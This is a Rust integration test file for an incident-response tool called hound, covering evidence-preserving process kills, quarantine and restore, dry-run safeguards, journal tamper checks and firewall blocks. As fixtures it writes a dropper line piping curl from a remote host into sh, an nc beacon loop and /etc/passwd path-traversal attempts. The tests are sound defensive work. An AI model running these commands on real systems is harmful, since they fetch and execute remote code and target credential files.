//! Remediation that loses nothing: evidence before kill, quarantine that
//! survives a crash and restores exactly, dry-run, policy, journal and report.

use crate::common::{hound, in_case, result_of, script, script_output};
use predicates::prelude::*;
use serde_json::Value;
use std::ffi::OsStr;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::process::{Command, Stdio};
use std::time::Duration;

/// Runs a script in `case`: (output, its result).
fn run(case: &std::path::Path, body: &str, extra: &[&str]) -> (std::process::Output, Value) {
    let args = in_case(case)
        .into_iter()
        .chain(extra.iter().map(OsStr::new));
    let (out, lines) = script_output(body, args);
    (out, result_of(&lines))
}

fn sha256(path: &std::path::Path) -> String {
    hound::host::evidence::sha256_file(path).unwrap()
}

#[test]
fn kill_keeps_the_deleted_executable_as_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let exe = dir.path().join("implant");
    std::fs::copy("/bin/sleep", &exe).unwrap();
    let original = sha256(&exe);
    let mut child = crate::common::spawn_fresh_copy(Command::new(&exe).arg("60"));
    std::thread::sleep(Duration::from_millis(100));
    std::fs::remove_file(&exe).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (out, v) = run(
        case.path(),
        &format!("proc::kill({}, #{{ grace: 1 }})\n", child.id()),
        &["--allow-destructive"],
    );
    let _ = child.wait();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["status"], "killed", "{v}");
    assert_eq!(v["gone"], true);
    let ev = case
        .path()
        .join("evidence")
        .join(v["evidence"].as_str().unwrap());
    assert_eq!(
        sha256(&ev.join("exe")),
        original,
        "the deleted binary was preserved byte for byte"
    );
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(ev.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["process"]["exe_deleted"], true);
}

#[test]
fn killing_a_loop_with_its_tree_stops_the_respawning_and_a_lone_child_respawns() {
    let case = tempfile::tempdir().unwrap();
    let mut lp = Command::new("bash")
        .args(["-c", "while true; do sleep 30; done"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let kids = hound::host::proc::children(lp.id() as i64, &Default::default()).unwrap();
    let child = kids.first().expect("the loop's sleep").pid;
    // Killing only the child: the loop starts a new one.
    let (_, v) = run(
        case.path(),
        &format!("proc::kill({child}, #{{ grace: 1 }})\n"),
        &["--allow-destructive"],
    );
    assert_eq!(v["respawned"], true, "{v}");
    // Killing the loop with its tree: nothing is left.
    // A fast loop (a new child every 0.2 s): the tree is frozen, then killed.
    let mut fast = Command::new("bash")
        .args(["-c", "while true; do sleep 0.217; done"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let (_, v) = run(
        case.path(),
        &format!("proc::kill({}, #{{ tree: true, grace: 1 }})\n", fast.id()),
        &["--allow-destructive"],
    );
    let _ = fast.wait();
    assert_eq!(v["gone"], true, "{v}");
    // Descendants are captured too (how many depends on the loop's moment).
    for id in v["children_evidence"].as_array().unwrap() {
        let m = case
            .path()
            .join("evidence")
            .join(id.as_str().unwrap())
            .join("manifest.json");
        assert!(m.exists(), "{v}");
    }
    assert_eq!(v["respawned"], false, "{v}");
    assert!(
        hound::host::proc::children(fast.id() as i64, &Default::default())
            .unwrap_or_default()
            .is_empty()
    );
    let (_, v) = run(
        case.path(),
        &format!("proc::kill({}, #{{ tree: true, grace: 1 }})\n", lp.id()),
        &["--allow-destructive"],
    );
    let _ = lp.wait();
    assert_eq!(v["gone"], true, "{v}");
    assert!(
        hound::host::proc::children(lp.id() as i64, &Default::default())
            .unwrap_or_default()
            .is_empty()
    );
    // The loop's sleep was captured; the journal and the report name that
    // evidence with its folder and the executable's hash.
    let sleep = sha256(std::path::Path::new("/usr/bin/sleep"));
    let kids = v["children_captured"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(!kids.is_empty(), "{v}");
    let c = case.path().to_str().unwrap();
    hound()
        .args(["report", c, "--format", "json"])
        .assert()
        .success();
    let report: Value = serde_json::from_str(
        &std::fs::read_to_string(case.path().join("reports/report.json")).unwrap(),
    )
    .unwrap();
    for k in &kids {
        let id = k["id"].as_str().unwrap();
        let row = report["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["id"] == id)
            .unwrap_or_else(|| panic!("{id} not in the report: {report}"));
        assert_eq!(row["sha256"], sleep, "{row}");
        assert_eq!(k["sha256"], sleep, "{k}");
        let stored = row["stored"].as_str().unwrap();
        assert!(
            std::path::Path::new(stored).join("manifest.json").exists(),
            "{row}"
        );
        assert!(row["what"].as_str().unwrap().contains("sleep 30"), "{row}");
    }
    hound().args(["report", c]).assert().success().stdout(
        predicate::str::contains(kids[0]["id"].as_str().unwrap())
            .and(predicate::str::contains(sleep.as_str())),
    );
}

#[test]
fn quarantine_and_restore_round_trip_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bot.sh");
    let content = "#!/bin/bash\n\nwhile true; do nc -zv 192.0.2.9 80; sleep 2; done\n";
    std::fs::write(&f, content).unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o750)).unwrap();
    let before = std::fs::metadata(&f).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (out, q) = run(
        case.path(),
        &format!("fs::quarantine(\"{}\")\n", f.display()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!f.exists(), "original removed");
    let id = q["id"].as_str().unwrap();
    assert_eq!(id, q["sha256"].as_str().unwrap());
    let (out, r) = run(
        case.path(),
        &format!("fs::restore(\"{id}\")\n"),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(r["status"], "restored");
    let after = std::fs::metadata(&f).unwrap();
    assert_eq!(std::fs::read_to_string(&f).unwrap(), content);
    assert_eq!(after.mode(), before.mode());
    assert_eq!(
        (after.mtime(), after.mtime_nsec()),
        (before.mtime(), before.mtime_nsec())
    );
    assert_eq!(after.uid(), before.uid());
}

#[test]
fn a_crash_between_copy_and_removal_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("payload");
    std::fs::write(&f, "evil").unwrap();
    let case = tempfile::tempdir().unwrap();
    let (_d, p) = script("q.rhai", &format!("fs::quarantine(\"{}\")\n", f.display()));
    hound()
        .env("HOUND_FAILPOINT", "quarantine_after_copy")
        .args([
            "run",
            p.to_str().unwrap(),
            "--allow-destructive",
            "--case",
            case.path().to_str().unwrap(),
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("failpoint"));
    assert_eq!(
        std::fs::read_to_string(&f).unwrap(),
        "evil",
        "the original is still there"
    );
    let stored = case.path().join("quarantine").join(sha256(&f));
    assert_eq!(
        std::fs::read_to_string(stored).unwrap(),
        "evil",
        "and so is the copy"
    );
    // Retrying finishes the job under the same id.
    let (out, q) = run(
        case.path(),
        &format!("fs::quarantine(\"{}\")\n", f.display()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(q["id"].as_str().unwrap(), q["sha256"].as_str().unwrap());
    assert!(!f.exists());
}

#[test]
fn dry_run_and_policy_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("payload");
    std::fs::write(&f, "x").unwrap();
    let mut child = Command::new("sleep").arg("30").spawn().unwrap();
    let case = tempfile::tempdir().unwrap();
    let body = format!("let a = fs::quarantine(\"{}\");\nlet b = proc::kill({});\n#{{ a: a.status, b: b.status }}\n", f.display(), child.id());
    let (out, v) = run(case.path(), &body, &["--dry-run"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["a"], "dry_run");
    assert_eq!(v["b"], "dry_run");
    let journal = std::fs::read_to_string(case.path().join("journal.jsonl")).unwrap();
    assert!(journal.lines().all(|l| l.contains("\"dry_run\":true")));
    assert_eq!(
        std::fs::read_dir(case.path().join("quarantine"))
            .unwrap()
            .count(),
        0,
        "nothing copied in a dry run"
    );
    assert!(f.exists());
    assert!(
        child.try_wait().unwrap().is_none(),
        "the process still runs"
    );
    let (out, _) = run(case.path(), &body, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--allow-destructive"));
    assert!(f.exists());
    assert!(child.try_wait().unwrap().is_none());
    let _ = child.kill();
    let _ = child.wait();
    let (_d, p) = script("r.rhai", "fs::quarantine(\"/etc/passwd\")\n");
    hound()
        .args([
            "run",
            p.to_str().unwrap(),
            "--allow-destructive",
            "--case",
            case.path().to_str().unwrap(),
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("system path"));
}

#[test]
fn journal_verifies_and_detects_tampering_and_the_report_tells_the_story() {
    let case = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("dropper.sh");
    std::fs::write(&f, "curl http://198.51.100.7/x | sh\n").unwrap();
    let body = format!(
        "case::finding(\"high\", \"Dropper in a temp dir\", #{{ evidence: \"{0}\", mitre: \"T1105\" }});\ncase::evidence(\"{0}\");\nfs::quarantine(\"{0}\");\ncase::report(\"md\")\n",
        f.display()
    );
    let (out, v) = run(case.path(), &body, &["--allow-destructive"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "findings make exit 1: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = std::fs::read_to_string(v.as_str().unwrap()).unwrap();
    for needle in [
        "## Conclusion",
        "was compromised: Dropper in a temp dir",
        "T1105",
        "## Evidence preserved (1)",
        "Actions taken: 1 file(s) quarantined.",
        "Journal integrity: verified",
        "fs::quarantine",
        "fs::restore",
        "## Recommendations",
    ] {
        assert!(report.contains(needle), "report lacks {needle}:\n{report}");
    }
    let c = case.path().to_str().unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .success()
        .stdout(predicate::str::contains("intact"));
    hound()
        .args(["report", c, "--format", "json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"verdict\""));
    hound()
        .args(["report", c, "--format", "html"])
        .assert()
        .success()
        .stdout(predicate::str::contains("<h2>Findings</h2>"));
    hound()
        .args(["report", c, "--format", "pdf"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("html"));
    let j = case.path().join("journal.jsonl");
    let text = std::fs::read_to_string(&j).unwrap();
    std::fs::write(&j, text.replacen("high", "low", 1)).unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("line 1"));
    let kept: Vec<&str> = text.lines().collect();
    std::fs::write(&j, format!("{}\n", kept[..kept.len() - 1].join("\n"))).unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cut off the end"));
}

#[test]
fn symlinks_stay_links_and_cannot_smuggle_system_paths() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("real");
    std::fs::write(&target, "keep me").unwrap();
    let link = dir.path().join("link");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let etc = dir.path().join("etc-alias");
    std::os::unix::fs::symlink("/etc", &etc).unwrap();
    let case = tempfile::tempdir().unwrap();
    let body = format!(
        "let q = fs::quarantine(\"{}\");\nlet gone = !fs::exists(\"{}\");\nlet r = fs::restore(q.id);\n#{{ kind: q.kind, gone: gone, r: r.status }}\n",
        link.display(),
        link.display()
    );
    let (out, v) = run(case.path(), &body, &["--allow-destructive"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["kind"], "symlink", "{v}");
    assert_eq!(v["gone"], true);
    assert_eq!(v["r"], "restored");
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(std::fs::read_link(&link).unwrap(), target);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me");
    // /etc/passwd reached through a symlinked folder or `..` is still /etc/passwd.
    for sneaky in [
        format!("{}/passwd", etc.display()),
        format!("{}/../../../etc/passwd", dir.path().display()),
    ] {
        let (out, _) = run(
            case.path(),
            &format!("fs::quarantine(\"{sneaky}\")\n"),
            &["--allow-destructive"],
        );
        assert_eq!(out.status.code(), Some(2));
        assert!(String::from_utf8_lossy(&out.stderr).contains("system path"));
    }
    assert!(std::path::Path::new("/etc/passwd").exists());
    let (out, _) = run(
        case.path(),
        &format!("fs::quarantine(\"{}\")\n", dir.path().display()),
        &["--allow-destructive"],
    );
    assert_eq!(out.status.code(), Some(2), "a folder needs recursive: true");
    assert!(String::from_utf8_lossy(&out.stderr).contains("recursive"));
}

#[test]
fn refuses_init_and_itself_and_suspend_resume_round_trip() {
    let case = tempfile::tempdir().unwrap();
    // This test runner is hound's parent: an ancestor is refused too.
    for body in [
        "proc::kill(1)\n".to_string(),
        "proc::kill(2)\n".to_string(),
        format!("proc::kill({})\n", std::process::id()),
    ] {
        let (out, _) = run(case.path(), &body, &["--allow-destructive"]);
        assert_eq!(out.status.code(), Some(2), "{body}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("refusing"));
    }
    let mut child = Command::new("sleep").arg("30").spawn().unwrap();
    // Signal delivery is asynchronous: wait (bounded) for the state to show.
    let state_is = |pid: u32, want: bool| {
        (0..100).any(|_| {
            let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
            let stopped = s.rsplit(')').next().unwrap().split_whitespace().next() == Some("T");
            if stopped != want {
                std::thread::sleep(Duration::from_millis(50));
            }
            stopped == want
        })
    };
    let (out, v) = run(
        case.path(),
        &format!("proc::suspend({})\n", child.id()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["status"], "suspended");
    assert!(state_is(child.id(), true), "stopped");
    let (_, v) = run(
        case.path(),
        &format!("proc::resume({})\n", child.id()),
        &["--allow-destructive"],
    );
    assert_eq!(v["status"], "resumed");
    assert!(state_is(child.id(), false), "running again");
    let _ = child.kill();
    let _ = child.wait();
    let journal = std::fs::read_to_string(case.path().join("journal.jsonl")).unwrap();
    assert!(
        journal.contains("\"primitive\":\"proc::suspend\"") && journal.contains("proc::resume")
    );
}

#[test]
fn evidence_of_a_file_keeps_hash_and_metadata_and_current_counts() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("notes.txt");
    std::fs::write(&f, "attacker was here\n").unwrap();
    let case = tempfile::tempdir().unwrap();
    let body = format!(
        "let e = case::evidence(\"{}\");\ncase::finding(\"info\", \"looked\");\nlet c = case::current();\n#{{ e: e, findings: c.findings, info: c.by_severity.info, entries: c.journal_entries }}\n",
        f.display()
    );
    let (_, v) = run(case.path(), &body, &[]);
    assert_eq!(v["e"]["kind"], "file", "{v}");
    assert_eq!(v["e"]["sha256"].as_str().unwrap(), sha256(&f));
    assert_eq!(v["findings"], 1);
    assert_eq!(v["info"], 1);
    assert_eq!(v["entries"], 2);
    let stored = std::path::Path::new(v["e"]["stored"].as_str().unwrap());
    assert_eq!(sha256(&stored.join("notes.txt")), sha256(&f));
    let meta: Value =
        serde_json::from_str(&std::fs::read_to_string(stored.join("metadata.json")).unwrap())
            .unwrap();
    assert_eq!(meta["sha256"].as_str().unwrap(), sha256(&f));
    assert!(meta["mode"].is_string() && meta["mtime"].is_string() && meta["uid"].is_number());
}

#[test]
fn the_report_names_the_attack_and_escapes_attacker_text() {
    let case = tempfile::tempdir().unwrap();
    let body = r#"
case::finding("critical", "Beacon to 10.0.0.196:80", #{ evidence: "bash /tmp/bot.sh -> nc every 2 s", addresses: ["10.0.0.196"], mitre: "T1498" });
case::finding("medium", "odd | name `rm -rf` \x1b[31mred", #{ evidence: "a|b" });
let md = case::report("md");
let html = case::report("html");
#{ md: md, html: html }
"#;
    let (out, v) = run(case.path(), body, &[]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let md = std::fs::read_to_string(v["md"].as_str().unwrap()).unwrap();
    assert!(
        md.contains("was compromised: Beacon to 10.0.0.196:80"),
        "{md}"
    );
    // The title names the victim; the conclusion does not repeat it.
    let conclusion = &md[md.find("## Conclusion").unwrap()..md.find("## Findings").unwrap()];
    assert_eq!(conclusion.matches("10.0.0.196").count(), 1, "{conclusion}");
    assert!(md.contains("No containment action was taken"), "{md}");
    assert!(md.contains(r"odd \| name \`rm -rf\`"), "{md}");
    assert!(!md.contains('\x1b'), "no raw escape sequences");
    let html = std::fs::read_to_string(v["html"].as_str().unwrap()).unwrap();
    assert!(v["html"].as_str().unwrap().ends_with("reports/report.html"));
    assert!(html.contains("<h2>Findings</h2>") && html.contains("Beacon to 10.0.0.196:80"));
    assert!(!html.contains('\x1b'));
}

#[test]
fn a_continued_case_counts_old_findings_but_exits_on_this_runs_only() {
    let case = tempfile::tempdir().unwrap();
    let (out, _) = run(
        case.path(),
        "case::finding(\"high\", \"first run\");\n",
        &[],
    );
    assert_eq!(out.status.code(), Some(1));
    let other = tempfile::tempdir().unwrap();
    let body = format!(
        "let before = case::current();\ncase::evidence(\"/etc/hostname\");\nlet o = case::open(\"{}\");\n#{{ before: before.findings, entries: before.journal_entries, other: o.findings }}\n",
        other.path().join("c2").display()
    );
    let (out, v) = run(case.path(), &body, &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["before"], 1, "{v}");
    assert_eq!(v["entries"], 1);
    assert_eq!(v["other"], 0);
    // A finding made before switching cases still sets the exit status.
    let body = format!(
        "case::finding(\"low\", \"x\");\ncase::open(\"{}\");\n",
        other.path().join("c3").display()
    );
    let (out, _) = run(case.path(), &body, &[]);
    assert_eq!(out.status.code(), Some(1));
    hound()
        .args(["case", "verify", case.path().to_str().unwrap()])
        .assert()
        .success();
}

#[test]
fn two_files_with_the_same_bytes_both_restore() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.sh");
    let b = dir.path().join("sub/b.sh");
    std::fs::create_dir_all(b.parent().unwrap()).unwrap();
    std::fs::write(&a, "same payload\n").unwrap();
    std::fs::write(&b, "same payload\n").unwrap();
    let case = tempfile::tempdir().unwrap();
    let body = format!(
        "let qa = fs::quarantine(\"{}\");\nlet qb = fs::quarantine(\"{}\", #{{ recursive: true }});\nlet ra = fs::restore(qa.id);\nlet rb = fs::restore(qb.files[0].id);\n#{{ a: qa.id, b: qb.files[0].id, report: case::report(\"md\") }}\n",
        a.display(),
        b.parent().unwrap().display()
    );
    let (out, v) = run(case.path(), &body, &["--allow-destructive"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_ne!(v["a"], v["b"], "{v}");
    assert_eq!(std::fs::read_to_string(&a).unwrap(), "same payload\n");
    assert_eq!(std::fs::read_to_string(&b).unwrap(), "same payload\n");
    let report = std::fs::read_to_string(v["report"].as_str().unwrap()).unwrap();
    assert!(report.contains("Journal integrity: verified"), "{report}");
    assert!(
        report.contains(&format!(
            "fs::restore {{\"id\":\"{}\"}}",
            v["b"].as_str().unwrap()
        )),
        "{report}"
    );
}

/// Regression: restore set the mode before the owner, and chown clears
/// set-uid; a restored set-uid file must keep its bits and owner.
#[test]
fn restore_keeps_setuid_bits_and_owner() {
    crate::require_root!();
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("suid-helper");
    std::fs::write(&f, "x").unwrap();
    nix::unistd::chown(&f, Some(nix::unistd::Uid::from_raw(65534)), None).unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (out, q) = run(
        case.path(),
        &format!("fs::quarantine(\"{}\")\n", f.display()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (out, _) = run(
        case.path(),
        &format!("fs::restore(\"{}\")\n", q["id"].as_str().unwrap()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let m = std::fs::metadata(&f).unwrap();
    assert_eq!(m.mode() & 0o7777, 0o4755);
    assert_eq!(m.uid(), 65534);
}

/// Regression: a fifo made quarantine block forever reading it.
#[test]
fn quarantine_refuses_a_fifo_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (_d, p) = script(
        "f.rhai",
        &format!("fs::quarantine(\"{}\")\n", fifo.display()),
    );
    hound()
        .args([
            "run",
            p.to_str().unwrap(),
            "--allow-destructive",
            "--case",
            case.path().to_str().unwrap(),
        ])
        .timeout(Duration::from_secs(20))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("not a regular file or symlink"));
    assert!(fifo.exists(), "nothing moved");
}

/// A dry-run firewall change reads as words in the report, and its batch
/// is a file next to it that nft accepts as it is: checked with `-c`, then
/// applied, in a namespace the test made.
#[test]
fn a_dry_run_block_is_an_nft_file_that_nft_applies() {
    crate::require_root!();
    crate::require_cmd!("nft");
    let ns = hound::host::netns::Netns::create_unique("hd-fwdry").unwrap();
    let table = format!("hdry{}", hound::host::netns::unique_tag().replace('-', ""));
    let case = tempfile::tempdir().unwrap();
    let (_d, p) = script(
        "dry.rhai",
        "fw::block(\"192.0.2.7\");\nfw::block([\"198.51.100.0/24\"], #{ direction: \"in\", proto: \"tcp\", port: 22, ttl: 600 });\ncase::report(\"md\")\n",
    );
    let out = ns
        .command(crate::common::hound_path().to_str().unwrap())
        .args(["--dry-run", "--json", "--case"])
        .arg(case.path())
        .args(["run", p.to_str().unwrap()])
        .env("HOUND_FW_TABLE", &table)
        .env("NO_COLOR", "1")
        .env_remove("HOUND_CASE")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let md = std::fs::read_to_string(case.path().join("reports/report.md")).unwrap();
    for needle in [
        "would block outbound traffic to 192.0.2.7",
        "would block inbound traffic from 198.51.100.0/24 (tcp port 22) for 600 s",
        "[fw-dryrun.nft.json](fw-dryrun.nft.json)",
    ] {
        assert!(md.contains(needle), "report lacks {needle}:\n{md}");
    }
    assert!(
        !md.contains("\"nftables\"") && !md.contains("\"elem\""),
        "{md}"
    );
    let file = case.path().join("reports/fw-dryrun.nft.json");
    let f = file.to_str().unwrap();
    ns.exec_ok(&["nft", "-j", "-c", "-f", f]).unwrap();
    assert!(
        ns.exec(&["nft", "list", "table", "inet", &table])
            .unwrap()
            .status
            .code()
            != Some(0),
        "check mode created the table"
    );
    ns.exec_ok(&["nft", "-j", "-f", f]).unwrap();
    let listed = ns
        .exec_ok(&["nft", "list", "table", "inet", &table])
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout);
    assert!(
        listed.contains("192.0.2.7") && listed.contains("198.51.100.0/24"),
        "{listed}"
    );
}
